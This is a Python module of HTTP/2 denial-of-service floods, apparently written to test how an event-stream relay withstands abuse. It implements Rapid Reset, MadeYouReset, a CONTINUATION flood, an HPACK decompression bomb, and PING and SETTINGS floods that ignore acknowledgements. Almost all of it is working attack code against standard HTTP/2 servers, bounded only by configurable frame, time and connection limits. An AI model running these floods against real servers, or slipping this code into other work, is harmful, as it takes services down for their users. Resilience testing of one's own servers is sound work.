"""Frame floods: each opens TLS h2 connections to the relay and sends one kind of abusive frame
sequence as fast as the socket takes it, bounded by a frame count and a time limit; a connection
the relay closes (or answers with GOAWAY) is replaced by a new one, up to a connection limit.
Each returns a JSON-able summary: what was sent, and how the relay reacted per connection.
"""

import time

from h2raw import (
    Conn,
    continuation,
    data,
    headers,
    hpack_int,
    literal_new_name,
    ping,
    request_block,
    rst_stream,
    settings,
    window_update,
)
from hyperframe.frame import SettingsFrame


class Budget:
    """The bounds every flood shares: frames (or streams) in all, seconds, connections."""

    def __init__(self, args):
        self.count = args.count
        self.deadline = time.monotonic() + args.seconds
        self.connections = args.connections
        self.used = 0

    def left(self):
        return self.used < self.count and time.monotonic() < self.deadline

    def slice_deadline(self, seconds=0.25):
        return min(self.deadline, time.monotonic() + seconds)


def _paths(args):
    return [f"/events/{args.topic_prefix}-{i}" for i in range(args.topics)]


def _connect(args, refused):
    """A new h2 connection, or None (counted in `refused`) when the relay will not have it."""
    try:
        conn = Conn(args.target)
    except (OSError, ConnectionError) as e:
        refused.append(repr(e))
        return None
    conn.start_h2()
    return conn


def _stream_flood(args, per_stream):
    """Opens connections in turn; on each, `per_stream(stream_id, n)` gives the frames of one
    more stream, sent in batches while reading the relay's answers, until the budget is spent
    or the relay ends the connection (EOF or GOAWAY)."""
    budget, conns, refused = Budget(args), [], []
    while budget.left() and len(conns) < budget.connections:
        conn = _connect(args, refused)
        if conn is None:
            break
        conns.append(conn)
        stream_id, sent = 1, 0
        while budget.left() and not conn.closed and conn.goaway is None:
            batch = bytearray()
            for _ in range(args.batch):
                batch += per_stream(stream_id, budget.used)
                stream_id += 2
                budget.used += 1
                sent += 1
            conn.send(bytes(batch))
            if not conn.pump(budget.slice_deadline()):
                conn.pump(budget.deadline)  # the relay stopped reading: wait, then stop
        conn.drain(0.5)  # returns as soon as the relay closes the connection
        conn.streams_sent = sent
    return _result(conns, budget, "streams", refused)


def _result(conns, budget, unit, refused=()):
    per_conn = []
    for conn in conns:
        item = conn.summary()
        item[unit] = getattr(conn, f"{unit}_sent", None)
        per_conn.append(item)
        conn.close()
    return {
        unit: budget.used,
        "connections": len(conns),
        "connections_refused": len(refused),
        "first_refusal": refused[0] if refused else None,
        "connections_closed_by_relay": sum(c["closed_by_relay"] for c in per_conn),
        "connections_with_goaway": sum(c["goaway"] is not None for c in per_conn),
        "per_connection": per_conn,
    }


def rapid_reset(args):
    """CVE-2023-44487: HEADERS (a valid SSE subscription) immediately followed by RST_STREAM."""
    paths = _paths(args)
    blocks = [request_block(p) for p in paths]
    return _stream_flood(
        args,
        lambda sid, n: headers(sid, blocks[n % len(blocks)]) + rst_stream(sid),
    )


def made_you_reset(args):
    """MadeYouReset (CVE-2025-8671): a valid request, then a frame that makes the *server*
    reset the stream with a stream error, so the reset is the server's own and slips past Rapid
    Reset accounting while the request's work may go on. Primitives (`--primitive`):
    `window_update_zero` (WINDOW_UPDATE with increment 0 on the stream; RFC 9113 §6.9 calls it
    a stream error), `window_overflow` (an increment pushing the stream window past 2^31-1),
    `data_after_end` (DATA on a stream the client already half-closed)."""
    blocks = [request_block(p) for p in _paths(args)]
    trigger = {
        "window_update_zero": lambda sid: window_update(sid, 0),
        "window_overflow": lambda sid: window_update(sid, 0x7FFFFFFF),
        "data_after_end": lambda sid: data(sid, b"x"),
    }[args.primitive]
    result = _stream_flood(
        args,
        lambda sid, n: headers(sid, blocks[n % len(blocks)]) + trigger(sid),
    )
    result["primitive"] = args.primitive
    return result


def continuation_flood(args):
    """CVE-2024-27316 style: HEADERS without END_HEADERS, then CONTINUATION frames that never
    end the block. Connections alternate: 16 KB fragments of valid literal headers (memory),
    then empty fragments (frame count, CPU)."""
    budget, conns, refused = Budget(args), [], []
    field = literal_new_name("x-flood", "a" * 1000)
    big = field * 16
    path = _paths(args)[0]
    while budget.left() and len(conns) < budget.connections:
        conn = _connect(args, refused)
        if conn is None:
            break
        conn.send(headers(1, request_block(path), end_headers=False, end_stream=True))
        conns.append(conn)
        big_fragments = len(conns) % 2 == 1
        frame = continuation(1, big if big_fragments else b"")
        batch = frame if big_fragments else frame * args.batch
        sent = 0
        while budget.left() and not conn.closed and conn.goaway is None:
            conn.send(batch)
            n = len(batch) // len(frame)
            sent += n
            budget.used += n
            if not conn.pump(budget.slice_deadline()):
                conn.pump(budget.deadline)
        conn.drain(0.5)
        conn.frames_sent = sent
    return _result(conns, budget, "frames", refused)


def hpack_bomb(args):
    """A 4 KB header enters the relay's HPACK dynamic table once (a valid request), then each
    further request references it by index (one byte, 0xBE = index 62) ~16000 times: 16 KB on
    the wire, ~64 MB once decoded, far over the header list limit."""
    path = _paths(args)[0]
    value = "b" * (4096 - 32 - len("x-bomb") - 64)  # fits the default 4096-byte table
    insert = request_block(path) + literal_new_name("x-bomb", value, incremental=True)
    refs = args.refs
    bomb = request_block(path) + b"\xbe" * refs
    assert hpack_int(62, 7, 0x80) == b"\xbe"

    def per_stream(sid, n):
        if sid == 1:
            return headers(sid, insert, end_stream=True)
        return headers(sid, bomb)

    result = _stream_flood(args, per_stream)
    result["header_value_bytes"] = len(value)
    result["references_per_request"] = refs
    result["decoded_bytes_per_request"] = refs * (len(value) + len("x-bomb") + 32)
    return result


def _unread_flood(args, frame, frames_per_unit=1):
    """Sends `frame` over `connections` parallel connections as fast as the relay takes it,
    never reading what it answers, until the budget is spent; then reads for a moment to see
    whether the relay ended the connections. Each connection first opens an event stream, as
    a browser's would, so the relay's idle and first-request watchdogs have no reason to
    close it: the flood itself must be handled."""
    budget = Budget(args)
    conns = []
    paths = _paths(args)
    for i in range(budget.connections):
        conn = Conn(args.target)
        conn.start_h2()
        conn.send(headers(1, request_block(paths[i % len(paths)])))
        conn.drain(0.2)  # the relay's SETTINGS, acknowledged; from now on nothing is read
        conns.append(conn)
    batch = frame * args.batch
    per = args.batch * frames_per_unit
    blocked = [0.0] * len(conns)
    while budget.left() and not all(c.closed for c in conns):
        for i, conn in enumerate(conns):
            if conn.closed:
                continue
            if conn.pending:  # the relay is not reading: it applied backpressure
                t0 = time.monotonic()
                conn.pump(budget.slice_deadline(0.05), read=False)
                blocked[i] += time.monotonic() - t0
                continue
            conn.send(batch)
            conn.frames_sent = getattr(conn, "frames_sent", 0) + per
            budget.used += per
            conn.pump(budget.slice_deadline(0.05), read=False)
    for conn in conns:
        conn.drain(0.25)
    result = _result(conns, budget, "frames")
    for item, seconds in zip(result["per_connection"], blocked):
        item["seconds_blocked_by_backpressure"] = round(seconds, 3)
    return result


def ping_flood(args):
    """PING frames, never reading the PING ACKs the relay owes."""
    return _unread_flood(args, ping())


def settings_flood(args):
    """SETTINGS frames (each changing INITIAL_WINDOW_SIZE, which touches every stream), never
    reading the SETTINGS ACKs the relay owes."""
    a = settings({SettingsFrame.INITIAL_WINDOW_SIZE: 65535, SettingsFrame.ENABLE_PUSH: 0})
    b = settings({SettingsFrame.INITIAL_WINDOW_SIZE: 65534, SettingsFrame.ENABLE_PUSH: 0})
    return _unread_flood(args, a + b, frames_per_unit=2)
